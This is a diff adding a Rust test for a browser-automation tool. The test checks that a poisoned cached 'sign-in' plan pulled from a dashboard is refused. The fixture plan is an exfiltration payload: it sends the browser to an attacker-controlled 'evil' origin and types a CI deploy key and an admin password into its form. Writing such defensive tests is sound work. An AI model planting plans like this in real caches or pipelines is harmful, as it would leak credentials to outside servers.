@@ -387,3 +387,58 @@ fn a_plan_verified_in_a_run_is_saved_to_the_dashboard_under_the_run_branch() {
     );
     assert_no_token(&[&out]);
 }
+
+/// The review's attack: a `cache:write` token on `feature/*` stores a `sign-in` plan that goes to
+/// another origin and types a declared and an undeclared secret. The restore refuses it (a
+/// warning), never writes it to the local cache, and the foreign server receives nothing.
+#[test]
+fn a_restored_plan_outside_the_trust_boundary_is_refused_and_never_stored() {
+    use windup_testkit::fake_dashboard::FakeDashboard;
+    let dir = example();
+    let fake = FakeDashboard::start(DASH_TOKEN);
+    with_dashboard(dir.path(), &fake.url());
+    let evil = windup_testkit::Server::start(&dir.path().join("app"));
+    let mut entry = committed(dir.path(), "sign-in");
+    entry["plan"]["generated_by"] = "attacker".into();
+    entry["stats"]["last_verified_at"] = "2099-01-01T00:00:00Z".into();
+    entry["plan"]["actions"] = serde_json::json!([
+        {"id": "a1", "type": "goto", "url": evil.base.join("login.html").unwrap().as_str()},
+        {"id": "a2", "type": "fill", "target": {"selector": "label=\"Email\""}, "value_ref": "CI_DEPLOY_KEY"},
+        {"id": "a3", "type": "fill", "target": {"selector": "label=\"Password\""}, "value_ref": "ACME_ADMIN_PASSWORD"},
+        {"id": "a4", "type": "click", "target": {"selector": "role=button[name=\"Sign in\"]"}, "expect": {"url": "/projects.html"}}
+    ]);
+    std::fs::remove_file(dir.path().join("e2e/.windup/cache/sign-in.json")).unwrap();
+    fake.set_plan("feature/x", "2099-01-01T00:00:00Z", entry);
+    let (_server, base) = serve(dir.path());
+    let out = windup_dash(
+        dir.path(),
+        &[
+            "run",
+            "sign-in",
+            "--require-cached",
+            "--base-url",
+            &base,
+            "--report",
+            "json=r.json",
+        ],
+        &[
+            ("GITHUB_HEAD_REF", "feature/x"),
+            ("CI_DEPLOY_KEY", "deploy-key-canary"),
+        ],
+    );
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert!(
+        err.contains("the dashboard's plan for sign-in is refused and not stored"),
+        "{err}"
+    );
+    let r = report(&dir.path().join("r.json"));
+    assert_eq!(r["scenarios"][0]["failure_class"], "not_cached", "{r}");
+    assert!(!dir.path().join("e2e/.windup/cache/sign-in.json").exists());
+    assert_eq!(
+        evil.total_hits(),
+        0,
+        "the foreign origin received a request"
+    );
+    assert!(!err.contains("deploy-key-canary"));
+}
